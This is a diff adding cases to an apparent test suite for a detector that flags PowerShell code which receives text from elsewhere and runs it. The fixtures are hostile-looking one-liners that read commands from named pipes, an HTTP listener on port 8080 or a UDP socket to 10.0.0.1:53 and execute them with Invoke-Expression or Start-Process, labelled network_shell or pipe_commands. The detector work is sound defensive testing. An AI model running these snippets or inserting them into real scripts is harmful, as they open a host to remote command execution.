@@ -71,6 +71,33 @@ describe('text that comes from elsewhere and is run', () => {
     expect(told(opening + runs[2], 'powershell')).toContain(action)
   })
 
+  it.each([
+    [
+      '$p=New-Object IO.Pipes.NamedPipeClientStream("fs1","jobs","In");$p.Connect();$j=(New-Object IO.StreamReader($p)).ReadToEnd()|ConvertFrom-Json;Start-Process $j.exe -ArgumentList $j.args',
+      'pipe_commands \\jobs',
+    ],
+    [
+      'Get-Content \\\\.\\pipe\\jobs | Invoke-Expression',
+      'pipe_commands \\jobs',
+    ],
+    [
+      '$r=[IO.StreamReader]::new([IO.File]::Open("\\\\srv1\\pipe\\jobs","Open","Read"));iex $r.ReadLine()',
+      'pipe_commands \\jobs',
+    ],
+    [
+      '$l=[Net.HttpListener]::new();$l.Prefixes.Add("http://+:8080/");$l.Start();$x=$l.GetContext();iex (New-Object IO.StreamReader($x.Request.InputStream)).ReadToEnd()',
+      'listen http://+:8080/',
+    ],
+    [
+      'function Take($s){ $r=New-Object IO.StreamReader($s); Run $r.ReadLine() }\nfunction Run($t){ Invoke-Expression -Command $t }\n$p=New-Object IO.Pipes.NamedPipeClientStream(".","jobs",3); Take $p',
+      'pipe_commands \\jobs',
+    ],
+  ])('is followed through whatever hands it on: %s', (text, action) => {
+    const actions = told(text, 'powershell')
+    expect(actions).toContain(action)
+    expect(actions.join()).toMatch(/network_shell|pipe_commands/)
+  })
+
   it('comes in datagrams', () => {
     const text = `$u=New-Object Net.Sockets.UdpClient('10.0.0.1',53);$d=[Text.Encoding]::ASCII.GetString($u.Receive([ref]$e));iex $d`
     expect(told(text, 'powershell')).toContain('network_shell 10.0.0.1:53')
